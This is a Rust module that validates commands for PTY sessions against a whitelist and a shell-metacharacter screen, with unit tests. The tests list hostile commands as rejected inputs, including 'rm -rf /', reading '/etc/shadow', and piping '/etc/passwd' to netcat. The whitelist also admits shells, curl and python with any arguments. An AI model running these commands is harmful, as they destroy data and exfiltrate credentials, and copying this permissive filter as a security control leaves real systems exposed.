//! Command validation for child PTY sessions.
//!
//! Commands launched on internal PTYs come from user input, so they pass a
//! whitelist plus a dangerous-character screen before anything is spawned.
//! The empty command is valid and means "default shell".

use crate::error::{Error, Result};

// ---------------------------------------------------------------------------
// Whitelist and screens
// ---------------------------------------------------------------------------

/// Commands allowed to run in an internal PTY session. A command passes
/// when it exactly equals an entry or begins with `"<entry> "`.
const COMMAND_WHITELIST: &[&str] = &[
    // Shells
    "zsh",
    "bash",
    "sh",
    "fish",
    // Common unix utilities
    "ls",
    "cat",
    "echo",
    "pwd",
    "grep",
    "find",
    "head",
    "tail",
    "less",
    "man",
    "ps",
    "top",
    "htop",
    "env",
    "which",
    "make",
    "cargo",
    "curl",
    "wget",
    "vim",
    "nvim",
    "tmux",
    // Toolchains and daemons
    "git",
    "go",
    "python",
    "python3",
    "node",
    "npm",
    "npx",
    "docker",
    "kubectl",
    "ssh",
    // Claude and nix entrypoints
    "claude",
    "claude -c",
    "nix",
];

/// Shell metacharacters that disqualify a command regardless of whitelist.
const DANGEROUS_SEQUENCES: &[&str] = &[
    "&&", "||", "$(", "${", ";", "&", "|", "`", "$", "(", ")", "<", ">",
];

// ---------------------------------------------------------------------------
// Validation
// ---------------------------------------------------------------------------

/// Validate a command string for PTY launch.
///
/// Empty input is valid (interpreted as the default shell). Otherwise the
/// command must begin with (or exactly equal) a whitelist entry, and must
/// not contain any shell metacharacter.
pub fn validate_command(command: &str) -> Result<()> {
    let trimmed = command.trim();
    if trimmed.is_empty() {
        return Ok(());
    }

    for seq in DANGEROUS_SEQUENCES {
        if trimmed.contains(seq) {
            return Err(Error::CommandRejected(command.to_string()));
        }
    }

    let allowed = COMMAND_WHITELIST
        .iter()
        .any(|entry| trimmed == *entry || trimmed.starts_with(&format!("{} ", entry)));

    if allowed {
        Ok(())
    } else {
        Err(Error::CommandRejected(command.to_string()))
    }
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    #[rstest]
    #[case("")]
    #[case("zsh")]
    #[case("claude")]
    #[case("claude -c")]
    #[case("claude --resume abc")]
    #[case("nvim")]
    #[case("git status")]
    #[case("nix develop")]
    #[case("python3 -m http.server")]
    #[case("ssh user@host")]
    fn test_accepts_whitelisted(#[case] command: &str) {
        assert!(validate_command(command).is_ok(), "rejected: {}", command);
    }

    #[rstest]
    #[case("rm -rf /")]
    #[case("evil")]
    #[case("gitx status")] // prefix of a token is not a token
    fn test_rejects_unlisted(#[case] command: &str) {
        let err = validate_command(command).unwrap_err();
        assert!(format!("{}", err).contains("command not in whitelist"));
    }

    #[rstest]
    #[case("git status; rm -rf /")]
    #[case("ls && whoami")]
    #[case("cat /etc/passwd | nc host 99")]
    #[case("echo `id`")]
    #[case("echo $(id)")]
    #[case("echo ${HOME}")]
    #[case("cat < /etc/shadow")]
    #[case("ls > /tmp/out")]
    #[case("git status & ")]
    fn test_rejects_dangerous_characters(#[case] command: &str) {
        assert!(
            validate_command(command).is_err(),
            "accepted dangerous: {}",
            command
        );
    }

    #[test]
    fn test_dangerous_wins_over_whitelist() {
        // Starts with a whitelisted token but carries a metacharacter.
        assert!(validate_command("claude; rm -rf /").is_err());
    }

    #[test]
    fn test_whitespace_only_is_default_shell() {
        assert!(validate_command("   ").is_ok());
    }
}
